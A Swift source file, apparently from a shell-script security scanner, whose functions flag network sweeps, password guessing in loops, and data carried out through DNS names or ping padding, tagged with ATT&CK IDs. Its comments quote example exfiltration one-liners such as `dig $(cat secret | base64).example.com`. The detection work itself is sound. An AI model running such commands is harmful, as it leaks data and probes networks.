/// Network rules read from the shape of the script: a loop probing one address after another, and a
/// host name built from a command's output.
extension ShellReader {
    /// A loop whose body pings (or port-probes, or looks up) an address built from the loop's
    /// variable (`for ip in $(seq 1 254); do ping -c 1 10.0.0.$ip; done`): a network sweep, the
    /// way machines and services are found before moving to them. A loop that pings one fixed
    /// host stays quiet.
    ///
    /// A loop that hands its variable to a program as the password (`sshpass -p "$pw"`, `mysql
    /// -p$pw`, `ldapsearch -w "$pw"`) tries passwords one after another: password guessing.
    mutating func checkSweep(variable: String, body: Script) {
        guard let (program, range, guessing) = Self.probe(in: body, using: variable, depth: 0) else { return }
        if guessing {
            add(.high, techniques: ["T1110"], "Runs `\(program)` once for each value of a loop, with the value as the password: trying passwords one after another to break into an account.", range)
            return
        }
        let hit = NetworkProbes.sweep(program)
        add(.medium, techniques: hit.techniques, hit.reason, range)
    }

    /// Whether `words` (a command's arguments) give `variable` as the password of `program`.
    static func passwordFromLoop(_ program: String, _ words: ArraySlice<Word>, _ variable: String) -> Bool {
        let options: [String: String] = ["sshpass": "-p", "ldapsearch": "-w", "ldapwhoami": "-w", "ldapmodify": "-w", "ldapadd": "-w", "mysql": "-p", "mariadb": "-p", "smbclient": "-U", "rpcclient": "-U"]
        guard let option = options[Catalogue.windowsKey(program)] else { return false }
        let list = Array(words)
        for (i, word) in list.enumerated() {
            guard let first = word.parts.first, case .literal(let text, _) = first, text.hasPrefix(option) || text.hasPrefix("--password") else { continue }
            if text == option, i + 1 < list.count, mentions(list[i + 1].parts, variable) { return true }
            if text != option, mentions(word.parts, variable) { return true }
        }
        return false
    }

    /// The loop variable of `for ((i = 1; i < 255; i++))`: the name assigned first.
    static func arithmeticLoopVariable(_ expression: String) -> String? {
        let head = expression.prefix { $0 != ";" }
        let name = head.drop { $0 == " " || $0 == "(" }.prefix { $0.isLetter || $0.isNumber || $0 == "_" }
        return name.isEmpty ? nil : String(name)
    }

    static func probe(in script: Script, using variable: String, depth: Int) -> (String, SourceRange, guessing: Bool)? {
        guard depth < 4 else { return nil }
        for item in script.items {
            for pipeline in item.andOr.pipelines {
                for command in pipeline.commands {
                    switch command {
                    case .simple(let s):
                        // `sudo ping …`, `timeout 1 ping …`
                        var words = ArraySlice(s.words)
                        var program = ""
                        while let w = words.first?.literalValue {
                            words = words.dropFirst()
                            if ["sudo", "nice", "command", "exec"].contains(w) { continue }
                            if w == "timeout" {
                                if let n = words.first?.literalValue, Double(n) != nil { words = words.dropFirst() }
                                continue
                            }
                            program = w
                            break
                        }
                        if passwordFromLoop(program, words, variable) { return (program, s.range, true) }
                        guard NetworkProbes.probes.contains(Catalogue.windowsKey(program)),
                            words.contains(where: { mentions($0.parts, variable) }) else { continue }
                        return (program, s.range, false)
                    case .compound(let compound, _, _):
                        let inner: [Script]
                        switch compound {
                        case .braceGroup(let b), .subshell(let b): inner = [b]
                        case .ifClause(let branches, let elseBody): inner = branches.flatMap { [$0.condition, $0.body] } + (elseBody.map { [$0] } ?? [])
                        case .whileClause(let c, let b, _): inner = [c, b]
                        default: inner = []
                        }
                        for s in inner { if let hit = probe(in: s, using: variable, depth: depth + 1) { return hit } }
                    case .function:
                        continue
                    }
                }
            }
        }
        return nil
    }

    static func mentions(_ parts: [WordPart], _ variable: String) -> Bool {
        parts.contains { part in
            switch part {
            case .parameter(let p): return p.name == variable
            case .doubleQuoted(let inner, _), .localeQuoted(let inner, _): return mentions(inner, variable)
            case .arithmetic(let text, _): return text.contains(variable)
            case .commandSubstitution(let script, _, _):
                // `` `echo $line | cut -d: -f2` ``: the value, cut out of the loop variable.
                return script.simpleCommands.contains { s in s.words.contains { mentions($0.parts, variable) } }
            default: return false
            }
        }
    }

    /// A host name built from a command's output and a fixed domain (`dig $(cat secret | base64).example.com`,
    /// `` ping `whoami`.x.example ``): looking it up hands the output to whoever runs the domain's
    /// name servers, however the network filters other traffic. DNS exfiltration; high when the
    /// output is encoded first, as exfiltration tools do to fit any data into a name.
    mutating func checkDataInHostName(_ words: [Word]) {
        checkCarriedInVariables(words)
        // Cheap first: most commands hold no command substitution at all.
        guard words.dropFirst().contains(where: { w in w.parts.contains { p in
            if case .commandSubstitution = p { return true }
            if case .doubleQuoted(let inner, _) = p { return inner.contains { if case .commandSubstitution = $0 { return true } else { return false } } }
            return false
        } }) else { return }
        // The program, behind `sudo`, `env` or `timeout N` if need be.
        guard let at = words.prefix(3).firstIndex(where: { NetworkProbes.resolvers.contains(Catalogue.windowsKey($0.literalValue ?? "")) }),
            let program = words[at].literalValue else { return }
        for word in words.dropFirst(at + 1) {
            let parts = word.parts.count == 1 ? Self.unquoted(word.parts[0]) : word.parts
            for (i, part) in parts.enumerated() where i + 1 < parts.count {
                guard case .commandSubstitution(let script, _, _) = part,
                    let after = parts[i + 1].literalValue, after.hasPrefix("."), after.count > 2,
                    after.dropFirst().first?.isLetter == true || after.dropFirst().first?.isNumber == true
                else { continue }
                let encoded = Self.encodes(script)
                add(encoded ? .high : .medium, techniques: ["T1048.003"],
                    "Builds the host name `\(program)` looks up from the output of a command\(encoded ? ", encoded first," : ""): looking it up hands that output to whoever runs the domain's name servers (data carried out through DNS).",
                    word.range)
                return
            }
        }
    }

    /// Data carried out a piece at a time through a loop variable: `for c in $(xxd -p F); do dig
    /// $c.example.org; done`, `xxd -p F | while read l; do host $l.example.org; done`, `ping -p
    /// $(xxd -p -l 16 F) HOST`. A label made of encoded data or credentials in a host name looked
    /// up, or a ping's padding pattern, is exfiltration (T1048.003, TA0010).
    mutating func checkCarriedInVariables(_ words: [Word]) {
        guard let start = words.prefix(3).firstIndex(where: { w in
            let n = Catalogue.windowsKey(w.literalValue ?? "")
            return NetworkProbes.resolvers.contains(n) || n == "ping" || n == "ping6"
        }), let program = words[start].literalValue else { return }
        func carries(_ p: WordPart) -> Bool {
            switch p {
            case .parameter(let e): return variables[e.name].map { !$0.taint.intersection([.encoded, .secret]).isEmpty } ?? false
            case .commandSubstitution(let s, _, _): return Self.encodes(s)
            default: return false
            }
        }
        let isPing = Catalogue.windowsKey(program).hasPrefix("ping")
        for (k, word) in words.enumerated().dropFirst(start + 1) {
            let parts = word.parts.flatMap(Self.unquoted)
            if isPing {
                guard k > 0, words[k - 1].literalValue == "-p", parts.contains(where: carries) else { continue }
                report.addLeading(.high, "T1048.003", "Puts encoded data into the padding of the `\(program)` packets it sends (`-p`): whoever receives them reads the data (data carried out through ICMP).", at(word.range))
                return
            }
            for (i, part) in parts.enumerated() where i + 1 < parts.count && carries(part) {
                guard case .parameter = part, let after = parts[i + 1].literalValue, after.hasPrefix("."), after.count > 2 else { continue }
                report.addLeading(.high, "T1048.003", "Builds the host name `\(program)` looks up from encoded data\(report.secrets.isEmpty ? "" : " read from \(report.secrets.last!)"), a piece at a time: looking it up hands the data to whoever runs the domain's name servers (data carried out through DNS).", at(word.range))
                return
            }
        }
    }

    static func unquoted(_ part: WordPart) -> [WordPart] {
        if case .doubleQuoted(let inner, _) = part { return inner }
        return [part]
    }

    /// Whether a command substitution's pipelines encode their data (base64, hex), as tools that
    /// hide data in host names do.
    static func encodes(_ script: Script) -> Bool {
        let encoders: Set<String> = ["base64", "base32", "basenc", "xxd", "od", "hexdump", "gzip", "openssl"]
        return script.simpleCommands.contains { s in
            guard let name = s.words.first?.literalValue, encoders.contains(basename(name)) else { return false }
            return !s.words.dropFirst().contains { ["-d", "--decode", "-D", "-r", "-revert"].contains($0.literalValue ?? "") }
        }
    }
}
